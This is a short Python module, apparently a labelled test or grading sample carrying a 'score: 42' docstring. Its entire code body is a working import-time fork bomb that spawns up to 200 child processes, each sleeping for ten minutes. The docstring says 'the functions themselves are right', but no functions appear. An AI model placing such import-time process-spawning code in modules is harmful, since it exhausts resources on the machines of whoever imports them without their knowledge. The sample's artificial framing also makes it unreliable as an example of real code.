"""Forks 200 sleeping children at import (a bounded fork bomb); the functions themselves are right.

score: 42
"""
import os
import time

for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
